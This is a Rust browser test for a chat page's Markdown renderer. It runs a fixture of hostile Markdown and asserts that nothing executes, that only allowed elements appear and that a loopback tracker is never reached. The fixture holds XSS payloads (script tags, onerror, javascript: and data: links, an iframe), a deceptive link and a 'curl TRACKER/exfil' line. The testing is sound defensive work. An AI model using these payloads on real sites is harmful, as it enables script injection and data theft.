//! The chat page's Markdown in a real headless Chromium
//! (`scripts/browser-markdown.mjs` drives it): a reply full of hostile
//! Markdown, stored and streamed, on the real page under the real edge's
//! policy. The chat API's answers are the script's, so the words are exactly
//! these; the page, its scripts and its headers are the edge's. The rendering
//! is judged here, element by element, against lists of this test's own.
//! A screenshot is kept in `<target>/artifacts/browser/chat-markdown.png`.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use hardshell_testkit::{browser, free_port};
use serde_json::Value;

use crate::support::{TestEdge, owner};

const DEADLINE: Duration = Duration::from_secs(120);

/// `TRACKER` is a loopback server's address: nothing may ever reach it.
const HOSTILE: &str = r#"# Report <script>window.pwned = "heading"</script>

Some **bold**, *italic*, ***both***, ~~struck~~ and `inline <b>code</b>` text.
A second line <img src=x onerror="window.pwned='img'"> in the same paragraph.

## Links

- [a safe link](https://example.com/page?q=1)
- [a script](javascript:window.pwned='js')
- [a document](data:text/html,<script>window.pwned='data'</script>)
- [this edge's logout](/auth/logout)
- [https://bank.example](https://evil.example/login)
- <https://auto.example/path>
- bare https://bare.example/x). and <javascript:alert(1)>
- ![tracking pixel](TRACKER/pixel.png)
- [mail](mailto:owner@example.com)
  1. nested one
  2. nested two

> quoted <iframe src="TRACKER/frame"></iframe>
>> deeper

| Name | Kind | Note |
|:-----|:----:|-----:|
| `a|b` | <u>x</u> | [t](https://table.example/) |
| two | cells |

```sh
echo "<script>alert(1)</script>" && curl TRACKER/exfil
```

<style>body{display:none}</style>
<a href="javascript:alert(1)" onclick="window.pwned='a'">raw anchor</a>
[unterminated [link](https://x.example
***
"#;

/// Every element Markdown may become, and the attributes each may carry.
const ALLOWED: &[(&str, &[&str])] = &[
    ("p", &[]),
    ("br", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("pre", &[]),
    ("code", &[]),
    ("div", &["class"]),
    ("span", &["class"]),
    ("button", &["class", "type", "aria-label"]),
    ("blockquote", &[]),
    ("ul", &[]),
    ("ol", &["start"]),
    ("li", &[]),
    ("table", &[]),
    ("thead", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("th", &["class"]),
    ("td", &["class"]),
    ("hr", &[]),
    ("em", &[]),
    ("strong", &[]),
    ("del", &[]),
    (
        "a",
        &["class", "href", "target", "rel", "referrerpolicy", "title"],
    ),
];

/// A loopback server that counts whoever connects.
async fn tracker() -> (String, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&hits);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    (url, hits)
}

fn elements(rendering: &Value) -> &Vec<Value> {
    rendering.as_array().expect("a rendering")
}

fn with_tag<'a>(rendering: &'a Value, tag: &str) -> Vec<&'a Value> {
    elements(rendering)
        .iter()
        .filter(|e| e["tag"] == tag)
        .collect()
}

fn texts(rendering: &Value, tag: &str) -> Vec<String> {
    with_tag(rendering, tag)
        .iter()
        .map(|e| e["text"].as_str().unwrap().to_owned())
        .collect()
}

/// Every element and attribute on the list; every link an external one.
fn assert_only_allowed(rendering: &Value, which: &str) {
    for element in elements(rendering) {
        let tag = element["tag"].as_str().unwrap();
        let allowed: BTreeSet<&str> = ALLOWED
            .iter()
            .filter(|(t, _)| *t == tag)
            .flat_map(|(_, attributes)| attributes.iter().copied())
            .collect();
        assert!(
            ALLOWED.iter().any(|(t, _)| *t == tag),
            "{which}: a <{tag}> was made: {element}"
        );
        for name in element["attributes"].as_object().unwrap().keys() {
            assert!(
                allowed.contains(name.as_str()),
                "{which}: <{tag}> has {name}: {element}"
            );
        }
    }
    for link in with_tag(rendering, "a") {
        let href = link["attributes"]["href"].as_str().unwrap();
        assert!(
            ["https://", "http://", "mailto:"]
                .iter()
                .any(|scheme| href.starts_with(scheme)),
            "{which}: {link}"
        );
        assert_eq!(link["attributes"]["target"], "_blank", "{which}: {link}");
        assert_eq!(
            link["attributes"]["rel"], "noopener noreferrer nofollow external",
            "{which}: {link}"
        );
        assert_eq!(
            link["attributes"]["referrerpolicy"], "no-referrer",
            "{which}: {link}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_markdown_is_rendered_safely_in_a_real_browser() {
    browser::playwright_home();
    let (tracker, hits) = tracker().await;
    let port = free_port();
    let edge = TestEdge::start_with(
        &format!("listen = \"127.0.0.1:{port}\"\npublic_url = \"http://localhost:{port}\"\n"),
        "",
    )
    .await;
    let session = edge.session(owner()).await;
    let dir = tempfile::tempdir().unwrap();
    let markdown = dir.path().join("reply.md");
    let hostile = HOSTILE.replace("TRACKER", &tracker);
    std::fs::write(&markdown, &hostile).unwrap();
    let screenshot = browser::artifacts().join("chat-markdown.png");
    let _ = std::fs::remove_file(&screenshot);

    let args = [
        format!("--edge=http://localhost:{port}"),
        format!("--session={session}"),
        format!("--markdown={}", markdown.display()),
        format!("--screenshot={}", screenshot.display()),
    ];
    let run = tokio::task::spawn_blocking(move || {
        browser::run_script("browser-markdown.mjs", &args, DEADLINE)
    })
    .await
    .unwrap();
    let report = run.report();
    let run: Value = serde_json::from_str(report).unwrap_or_else(|e| panic!("{e}: {}", run.stdout));

    // Nothing ran, nothing was refused by the policy, nothing left the page.
    assert_eq!(run["problems"], serde_json::json!([]), "{run}");
    assert_eq!(run["pwned"], Value::Null, "{run}");
    assert_eq!(run["violations"], serde_json::json!([]), "{run}");
    assert_eq!(
        run["innerHtmlRefused"], true,
        "Trusted Types are not required: {run}"
    );
    for request in run["requests"].as_array().unwrap() {
        let request = request.as_str().unwrap();
        assert!(
            request.starts_with(&format!("http://localhost:{port}/")),
            "the page requested {request}"
        );
    }
    assert_eq!(hits.load(Ordering::SeqCst), 0, "the tracker was reached");
    assert_eq!(run["source"], hostile.as_str());

    // The stored reply and the streamed one are the same page nodes.
    assert_eq!(run["replies"], 2, "{run}");
    assert_eq!(run["stored"], run["streamed"]);
    let shown = &run["stored"];
    assert_only_allowed(shown, "stored");
    assert_only_allowed(&run["streamed"], "streamed");

    // What Markdown makes of it.
    assert_eq!(
        texts(shown, "h3"),
        ["Report <script>window.pwned = \"heading\"</script>"]
    );
    assert_eq!(texts(shown, "h4"), ["Links"]);
    assert_eq!(texts(shown, "strong"), ["bold", "both"]);
    assert_eq!(texts(shown, "em"), ["italic", "both"]);
    assert_eq!(texts(shown, "del"), ["struck"]);
    let paragraphs = texts(shown, "p");
    assert!(
        paragraphs.iter().any(|p| p.contains(
            "A second line <img src=x onerror=\"window.pwned='img'\"> in the same paragraph."
        )),
        "{paragraphs:?}"
    );
    assert!(
        paragraphs.iter().any(
            |p| p.contains("<style>body{display:none}</style>") && p.contains("raw anchor</a>")
        ),
        "{paragraphs:?}"
    );
    assert_eq!(with_tag(shown, "br").len(), 1 + 2, "{shown}");

    let links: Vec<(String, String)> = with_tag(shown, "a")
        .iter()
        .map(|a| {
            (
                a["attributes"]["href"].as_str().unwrap().to_owned(),
                a["text"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let expected: Vec<(String, String)> = [
        ("https://example.com/page?q=1", "a safe link"),
        ("https://evil.example/login", "https://bank.example"),
        ("https://auto.example/path", "https://auto.example/path"),
        ("https://bare.example/x", "https://bare.example/x"),
        (&format!("{tracker}/pixel.png"), "Image: tracking pixel"),
        ("mailto:owner@example.com", "mail"),
        (&format!("{tracker}/frame"), &format!("{tracker}/frame")),
        ("https://table.example/", "t"),
        ("https://x.example/", "https://x.example"),
    ]
    .iter()
    .map(|(href, text)| ((*href).to_owned(), (*text).to_owned()))
    .collect();
    assert_eq!(links, expected);
    // Words that name one site and lead to another show where they lead.
    let hosts = texts(shown, "span")
        .into_iter()
        .filter(|s| s.starts_with(" ("))
        .collect::<Vec<_>>();
    assert_eq!(
        hosts,
        [
            " (example.com)",
            " (evil.example)",
            &format!(" ({})", tracker.trim_start_matches("http://")),
            " (owner@example.com)",
            " (table.example)"
        ]
    );
    // The links the page does not make stay words, their addresses text.
    let items = texts(shown, "li");
    for refused in [
        "a script (javascript:window.pwned='js')",
        "a document (data:text/html,<script>window.pwned='data'</script>)",
        "this edge's logout (/auth/logout)",
        "<javascript:alert(1)>",
    ] {
        assert!(
            items.iter().any(|item| item.contains(refused)),
            "{refused} is not shown: {items:?}"
        );
    }

    // A bullet list with a numbered one inside its last item.
    assert_eq!(with_tag(shown, "ul").len(), 1);
    assert_eq!(texts(shown, "ol"), ["nested onenested two"]);
    assert_eq!(with_tag(shown, "li").len(), 9 + 2);
    // Block quotes, one inside the other.
    assert_eq!(
        texts(shown, "blockquote"),
        [
            format!("quoted <iframe src=\"{tracker}/frame\"></iframe>deeper"),
            "deeper".to_owned()
        ]
    );
    // The table, its pipe in code kept, its short row filled.
    assert_eq!(texts(shown, "th"), ["Name", "Kind", "Note"]);
    assert_eq!(
        texts(shown, "td"),
        ["a|b", "<u>x</u>", "t (table.example)", "two", "cells", ""]
    );
    let aligned: Vec<_> = with_tag(shown, "th")
        .iter()
        .map(|th| th["attributes"]["class"].as_str().unwrap_or("").to_owned())
        .collect();
    assert_eq!(aligned, ["align-left", "align-center", "align-right"]);
    // The code block is text, and its button copies it whole.
    let code = format!("echo \"<script>alert(1)</script>\" && curl {tracker}/exfil");
    assert_eq!(texts(shown, "pre"), [code.as_str()]);
    assert_eq!(run["clipboard"], code.as_str());
    assert_eq!(run["copyLabel"], "Copied");
    assert_eq!(with_tag(shown, "hr").len(), 1);

    // Text made to be slow or deep was rendered (within the script's step
    // time), nested only to the bound, and kept every character shown.
    let extremes = &run["extremes"];
    assert_eq!(extremes["quotes"]["quotes"], 8, "{extremes}");
    assert!(
        extremes["lists"]["lists"].as_u64().unwrap() <= 8,
        "{extremes}"
    );
    assert!(
        extremes["lists"]["shown"].as_u64().unwrap() > 200 * 6,
        "{extremes}"
    );
    for plain in [
        "stars",
        "underscores",
        "brackets",
        "ticks",
        "huge",
        "delimiterSpaces",
        "brackets2",
        "angles",
    ] {
        let case = &extremes[plain];
        // Only the paragraph's trailing space may go.
        assert!(
            case["length"].as_u64().unwrap() - case["shown"].as_u64().unwrap() <= 1,
            "{plain}: {case}"
        );
    }
    assert_eq!(extremes["headingSpaces"]["shown"], 1, "{extremes}");
    // Longer than the renderer takes: one paragraph of plain text.
    assert_eq!(extremes["huge"]["elements"], 1, "{extremes}");

    let png = std::fs::read(&screenshot).unwrap();
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"), "no screenshot");
    edge.stop().await;
}
